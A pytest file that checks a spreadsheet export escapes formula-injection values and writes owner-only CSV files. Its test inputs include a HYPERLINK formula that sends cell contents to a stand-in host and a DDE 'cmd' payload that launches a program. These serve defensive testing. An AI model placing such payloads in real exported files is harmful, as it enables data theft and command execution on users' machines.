"""A spreadsheet runs nothing of what somebody else has typed."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from console.spreadsheet import as_text, write_spreadsheet


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x/?"&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "-",
        "-1e3",
        "-\N{ARABIC-INDIC DIGIT ONE}",
        "-1\n",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\N{FULLWIDTH EQUALS SIGN}1",
    ],
)
def test_what_could_run_is_text(text: str) -> None:
    assert as_text(text) == f"'{text}"


@pytest.mark.parametrize(
    "value", ["-12", "-0.5", "Lee-Ann", "a=b", "u1@oak.example", "'=1", "", None, -3, 2.5]
)
def test_the_rest_stays_as_it_is(value: object) -> None:
    assert as_text(value) == value


def test_a_file_is_escaped_headings_and_all_and_its_owners_alone(tmp_path: Path) -> None:
    path = tmp_path / "left-out.csv"
    rows = [["=1", None, 7], ['a,"b"', "-4", "@x"]]
    assert write_spreadsheet(path, ["name", "+column", "n"], rows) == 2
    assert path.stat().st_mode & 0o077 == 0
    with path.open(encoding="utf-8", newline="") as file:
        assert list(csv.reader(file)) == [
            ["name", "'+column", "n"],
            ["'=1", "", "7"],
            ['a,"b"', "-4", "'@x"],
        ]
